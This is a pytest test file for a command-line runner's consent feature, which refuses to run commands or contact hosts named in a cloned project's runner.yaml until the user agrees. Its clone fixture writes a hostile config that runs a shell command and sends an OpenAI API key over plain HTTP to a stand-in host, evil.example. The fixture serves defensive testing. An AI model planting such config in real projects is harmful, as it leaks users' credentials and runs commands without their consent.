"""A clone is data until its user agrees to what it runs and where it sends."""

from __future__ import annotations

import json
import os
import pwd
import stat
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Final

import click
import pytest

from runner.cli.main import cli
from tests.cli.conftest import FINISH
from tests.cli.terminal import CTRL_C, terminal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.cli.conftest import Run
    from tests.cli.shell import Folder
    from tests.simulation.world import World

OPENAI_KEY: Final = "sk-of-the-user-0123456789"
SECOND_USER: Final = 65_533

ACTING: Final = (
    ("plan",),
    ("plan", "--json"),
    ("plan", "-o", "plan.json"),
    ("reconcile",),
    ("reconcile", "--wait"),
    ("doctor",),
    ("doctor", "--json"),
    ("orphans",),
    ("retry", "hello"),
    ("cancel", "hello"),
    ("adopt", "batch_1", "--job", "hello"),
    ("rebuild", "--force"),
    ("notify", "--test"),
)
"""Command lines that run or send what `runner.yaml` says."""

READING: Final = (
    ("validate",),
    ("status",),
    ("status", "--json"),
    ("watch",),
    ("show", "hello"),
    ("events",),
    ("report",),
    ("verify",),
    ("notify",),
    ("schedule", "--cron"),
    ("doctor", "--offline"),
    ("doctor", "--offline", "--provider", "evil"),
    ("schema", "spec"),
    ("completion", "bash"),
    ("trust", "--show"),
    ("trust", "--revoke"),
    ("init",),
)
"""Those that run nothing and send nothing."""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Run a proxy that writes down all that it is asked for, and is of no use."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            head = self.rfile.readline(65_536)
            while line := self.rfile.readline(65_536).strip():
                head += line + b"\n"
            asked.append(head.decode())
            self.wfile.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
            self.close_connection = True

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", asked
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def sent(folder: Folder) -> Iterator[list[str]]:
    """What leaves this machine: all of it goes through a proxy."""
    with listening() as (proxy, asked):
        folder.env |= {"HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "NO_PROXY": "127.0.0.1"}
        yield asked


@pytest.fixture
def state(folder: Folder, tmp_path: Path) -> Path:
    """Keep this test's agreements apart."""
    folder.env["XDG_STATE_HOME"] = str(tmp_path / "state")
    return tmp_path / "state"


@pytest.fixture
def clone(finished: Folder, state: Path, sent: list[str]) -> Folder:
    """Make a clone, in which everything is done, and which turns on whoever uses it."""
    assert not state.exists(), "nothing has needed an agreement so far"
    assert sent == []
    config = (
        (finished.root / "runner.yaml")
        .read_text()
        .replace("api_key_env: LAB_KEY", "api_key_command: [sh, -c, 'touch ran; echo $LAB_KEY']")
    )
    finished.write(
        "runner.yaml",
        f"{config}"
        "  evil:\n"
        "    base_url: http://evil.example/v1\n"
        "    api_key_env: OPENAI_API_KEY\n"
        "    allow_key_over_http: true\n"
        "notify:\n"
        "  - command: [touch, told]\n"
        "  - webhook_env: HOOK_URL\n"
        "ping: {url_env: PING_URL}\n"
        "metrics: ../metrics.prom\n",
    )
    finished.env |= {
        "OPENAI_API_KEY": OPENAI_KEY,
        "HOOK_URL": "https://hooks.example/one",
        "PING_URL": "https://ping.example/two",
    }
    return finished


def effects(clone: Folder, sent: list[str]) -> list[str]:
    """Return what a command has done of what the clone wants."""
    paths = [clone.root / "ran", clone.root / "told", clone.root.parent / "metrics.prom"]
    return [*(path.name for path in paths if path.exists()), *sent]


PLACES: Final = (
    "runner.yaml:5:22: providers.lab.api_key_command: runs sh",
    "runner.yaml:8:15: providers.evil.base_url: sends requests to evil.example",
    "runner.yaml:9:18: providers.evil.api_key_env: sends the API key in OPENAI_API_KEY to",
    "runner.yaml:12:14: notify[0].command: runs touch",
    "runner.yaml:13:18: notify[1].webhook_env: sends messages to the URL in HOOK_URL",
    "runner.yaml:14:17: ping.url_env: sends a message after each pass",
    "runner.yaml:15:10: metrics: writes metrics to ",
)
"""The beginning of each line of a refusal."""


def test_each_command_is_known_to_act_or_to_read() -> None:
    assert {line[0] for line in (*ACTING, *READING)} == set(cli.list_commands(click.Context(cli)))


@pytest.mark.parametrize("command", READING, ids=" ".join)
def test_what_reads_runs_and_sends_nothing(
    run: Run, clone: Folder, sent: list[str], command: tuple[str, ...]
) -> None:
    done = run(*command)

    assert (done.code, effects(clone, sent)) == (0, []), done


def test_completion_runs_and_sends_nothing(clone: Folder, sent: list[str]) -> None:
    for words in ("runner sta", "runner show ", "runner reconcile s"):
        clone.sh(
            _RUNNER_COMPLETE="bash_complete", COMP_WORDS=words, COMP_CWORD=str(words.count(" "))
        )

    assert effects(clone, sent) == []


@pytest.mark.parametrize("command", ACTING, ids=" ".join)
def test_what_acts_is_refused_by_name(
    run: Run, clone: Folder, sent: list[str], world: World, command: tuple[str, ...]
) -> None:
    clone.job("more")
    world.requests.clear()

    done = run(*command)

    assert (done.code, effects(clone, sent), world.requests) == (2, [], [])
    lines = done.err.splitlines()
    assert len(lines) == len(PLACES)
    for line, beginning in zip(lines, PLACES, strict=True):
        assert line.startswith(beginning)
        assert "`runner trust`" in line
    assert OPENAI_KEY not in done.out + done.err


def test_with_a_detailed_exit_code_it_is_an_error(run: Run, clone: Folder) -> None:
    assert run("plan", "--detailed-exitcode").code == 1
    assert not (clone.root / "ran").exists()


def test_what_is_agreed_to_happens(run: Run, clone: Folder, sent: list[str]) -> None:
    clone.job("more")

    shown = run("trust", "--show")
    agreed = run("trust")

    assert shown.out.count("(not agreed)\n") == len(PLACES)
    assert "runs `sh -c 'touch ran; echo $LAB_KEY'` and sends what it prints to http://127" in (
        agreed.out
    )
    assert effects(clone, sent) == []
    assert run(*FINISH).code == 0
    assert run("trust", "--show").out.count(" (agreed)\n") == len(PLACES)
    run("orphans")
    done = effects(clone, sent)
    assert {"ran", "told", "metrics.prom"} <= set(done)
    for host in ("hooks.example", "ping.example", "evil.example"):
        assert [each for each in done if host in each], host
    assert [each for each in done if OPENAI_KEY in each and "http://evil.example/v1/" in each]


def test_the_variable_agrees_and_keeps_nothing(run: Run, clone: Folder, state: Path) -> None:
    for value in ("no", "", "1"):
        clone.env["RUNNER_TRUST"] = value
        assert run("plan").code == 2
    clone.env["RUNNER_TRUST"] = "yes"
    clone.job("more")

    assert run("plan").code == 0
    assert (clone.root / "ran").exists()
    assert not state.exists()


def test_a_change_needs_another_agreement_and_says_only_what_is_new(
    run: Run, clone: Folder
) -> None:
    run("trust")
    path = clone.root / "runner.yaml"
    before = path.read_text("utf-8")
    clone.write("runner.yaml", "# a comment\n" + before.replace("touch ran", "touch ran2"))

    changed = run("plan")

    assert changed.code == 2
    assert changed.err.count("\n") == 1
    assert changed.err.startswith("runner.yaml:6:22: providers.lab.api_key_command: runs sh; ")
    assert not (clone.root / "ran2").exists()
    clone.write("runner.yaml", before)
    assert run("plan").code == 0, "this was agreed to"
    assert run("trust", "--revoke").err == "revoked\n"
    assert run("plan").code == 2
    assert run("trust", "--revoke").err == "there was no agreement to revoke\n"


def test_an_agreement_is_only_to_what_the_file_says_then(run: Run, clone: Folder) -> None:
    run("trust")
    before = (clone.root / "runner.yaml").read_text("utf-8")
    clone.write("runner.yaml", "default_provider: local\n")
    assert run("trust").err == "nothing needs your agreement\n"

    clone.write("runner.yaml", before)

    assert run("plan").code == 2


def test_an_agreement_is_for_one_folder(run: Run, clone: Folder, tmp_path: Path) -> None:
    run("trust")
    (tmp_path / "link").symlink_to(clone.root, target_is_directory=True)
    (tmp_path / "copy").mkdir()
    (tmp_path / "copy" / "runner.yaml").write_bytes((clone.root / "runner.yaml").read_bytes())

    assert run("-C", str(tmp_path / "link"), "plan").code == 0
    assert run("-C", str(tmp_path / "copy"), "plan").code == 2


def test_what_init_writes_needs_no_agreement(run: Run, state: Path) -> None:
    assert run("init", "new").code == 0

    assert run("-C", "new", "trust", "--show").err == "nothing needs your agreement\n"
    assert run("-C", "new", "reconcile", "--wait").code == 0
    assert not state.exists()


def test_show_and_revoke_contradict_each_other(run: Run) -> None:
    assert run("trust", "--show", "--revoke").code == 2


# The question in a terminal.


@pytest.mark.parametrize("command", ["plan", "reconcile", "doctor", "orphans"])
def test_a_terminal_asks_and_a_yes_is_kept(clone: Folder, command: str) -> None:
    clone.env["NO_COLOR"] = "1"
    clone.job("more")
    with terminal(clone, command, columns=200) as screen:
        screen.until(r"Do you agree\? \[y/N\]")
        assert not (clone.root / "ran").exists()
        text = "\n".join(screen.glass.lines)
        assert "runs `sh -c 'touch ran; echo $LAB_KEY'`" in text
        assert "sends the API key in OPENAI_API_KEY to http://evil.example/v1, over plain" in text
        screen.press("y\n")
        screen.end()

    assert (clone.root / "ran").exists()
    assert clone.sh("plan").code == 0


@pytest.mark.parametrize(("answer", "code"), [("n\n", 2), ("\n", 2), (CTRL_C, 130)])
def test_anything_else_is_a_no(clone: Folder, answer: str, code: int) -> None:
    clone.job("more")
    with terminal(clone, "plan", columns=200) as screen:
        screen.until(r"Do you agree\?")
        screen.press(answer)
        if answer == CTRL_C:
            try:
                screen.process.wait(10)
            except subprocess.TimeoutExpired:  # Python drops what is raised in a destructor
                screen.press(answer)

        assert screen.end() == code

    assert not (clone.root / "ran").exists()
    assert clone.sh("plan").code == 2


def test_nobody_is_asked_for_a_log(clone: Folder) -> None:
    with terminal(clone, "reconcile", "--log-format", "json", columns=400) as screen:
        assert screen.end() == 2

    assert "Do you agree" not in screen.received


# The file of an agreement.


def file_of(state: Path) -> Path:
    [file] = (state / "runner" / "trust").iterdir()
    return file


def test_an_agreement_is_private_and_says_nothing_but_digests(
    run: Run, clone: Folder, state: Path
) -> None:
    old = os.umask(0)
    try:
        run("trust")
    finally:
        os.umask(old)

    file = file_of(state)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    for folder in (state, state / "runner", file.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    content = json.loads(file.read_bytes())
    assert content.keys() == {"format", "root", "agreed"}
    assert content["root"] == os.path.realpath(clone.root)
    assert "touch" not in file.read_text("utf-8")


@pytest.mark.usefixtures("clone")
@pytest.mark.parametrize(
    "spoil",
    [
        lambda file: file.chmod(0o666),
        lambda file: file.chmod(0o620),
        lambda file: file.write_text("{}"),
        lambda file: file.write_text("[" * 100_000),
        lambda file: file.write_bytes(b"\xff"),
        lambda file: file.write_text(file.read_text().replace('"root": "/', '"root": "/x/')),
        lambda file: file.symlink_to(file.rename(file.with_name("x"))),
        lambda file: file.unlink() or file.mkdir(),
        lambda file: (file.unlink(), subprocess.run(["mkfifo", file], check=True)),
        pytest.param(
            lambda file: os.chown(file, SECOND_USER, -1),
            marks=pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away"),
        ),
    ],
)
def test_an_agreement_that_others_may_have_made_is_none(
    run: Run, state: Path, spoil: Callable[[Path], object]
) -> None:
    run("trust")
    file = file_of(state)
    spoil(file)

    done = run("plan")

    assert done.code == 2
    assert done.err.startswith(f"{file}: should say what you have agreed to, and ")
    assert run("doctor", "--offline").code == 1


@pytest.mark.usefixtures("clone")
def test_without_a_place_for_it_the_error_says_what_to_do(run: Run, state: Path) -> None:
    state.write_text("a file")

    done = run("trust")

    assert done.code == 1
    assert done.err.endswith("name a folder of yours in XDG_STATE_HOME, or set RUNNER_TRUST=yes\n")
    assert run("plan").code == 2


@pytest.mark.usefixtures("clone")
def test_a_user_without_a_home_is_told_what_to_do(
    run: Run, folder: Folder, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unknown(user: int) -> None:
        raise KeyError(user)

    monkeypatch.setattr(pwd, "getpwuid", unknown)
    monkeypatch.delenv("HOME")
    folder.env["XDG_STATE_HOME"] = ""

    assert run("plan").code == 2
    assert run("trust", "--revoke").code == 0
    done = run("trust")

    assert done.code == 1
    assert done.err.startswith("error: there is no home folder to keep your agreement in: ")
    assert "XDG_STATE_HOME" in done.err


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write everywhere")
def test_a_folder_that_cannot_be_written_is_named(run: Run, clone: Folder, state: Path) -> None:
    state.mkdir(mode=0o500)

    done = run("trust")

    assert (done.code, "permission denied" in done.err) == (1, True)
    assert not (clone.root / "ran").exists()


def test_a_relative_state_folder_does_not_count(run: Run, clone: Folder, tmp_path: Path) -> None:
    clone.env |= {"XDG_STATE_HOME": "state", "HOME": str(tmp_path / "home")}

    run("trust")

    assert not (clone.root / "state").exists()
    assert file_of(tmp_path / "home" / ".local" / "state").is_file()


# Files of others.


def as_second_user(script: str, folder: Path) -> None:
    """Run a shell script in a folder as another user of this machine."""
    subprocess.run(
        ["/bin/sh", "-c", script],
        cwd=folder,
        user=SECOND_USER,
        group=SECOND_USER,
        extra_groups=[],
        check=True,
    )


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can act as a second user")


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """Make a folder like /tmp: anybody may create files in it."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    (shared / "work" / "specs").mkdir(parents=True)
    return shared


@needs_root
@pytest.mark.parametrize("command", [*ACTING, *READING[:12]], ids=" ".join)
def test_a_project_file_of_another_user_above_is_refused(
    run: Run, shared: Path, command: tuple[str, ...]
) -> None:
    as_second_user(
        "printf 'providers: {local: {api_key_command: [touch, ran]}}\\ndefault_provider: local\\n'"
        " > runner.yaml; mkdir specs; chmod 755 specs",
        shared,
    )

    done = run("-C", str(shared / "work"), *command)

    assert done.code == 2
    assert f"{shared}/runner.yaml: belongs to another user of this machine" in done.err
    assert not (shared / "ran").exists()


@needs_root
@pytest.mark.parametrize("part", ["runner.yaml", "specs", ".runner", ".runner/ledger.db"])
def test_parts_of_another_user_are_refused_and_the_variable_allows_them(
    run: Run, finished: Folder, part: str, state: Path
) -> None:
    os.chown(finished.root / part, SECOND_USER, SECOND_USER)

    for command in ("plan", "reconcile"):
        done = run(command)
        assert done.code == 2
        assert done.err.startswith(f"{part}: belongs to another user of this machine")
        assert done.err.count("\n") == 1
    for command in ("status", "validate"):
        assert run(command).code == 0, "its folder was named, and reading does no harm"
    finished.env["RUNNER_TRUST"] = "yes"
    assert run("reconcile").code == 0
    assert not state.exists()


@pytest.mark.parametrize("part", ["runner.yaml", "specs", ".runner/ledger.db"])
def test_parts_that_others_can_write_are_refused_and_can_be_agreed_to(
    run: Run, finished: Folder, part: str, state: Path
) -> None:
    (finished.root / part).chmod(0o777)

    assert run("plan").err.startswith(f"{part}: can be changed by every user of this machine")
    run("trust")
    assert run("plan").code == 0
    assert file_of(state).is_file()
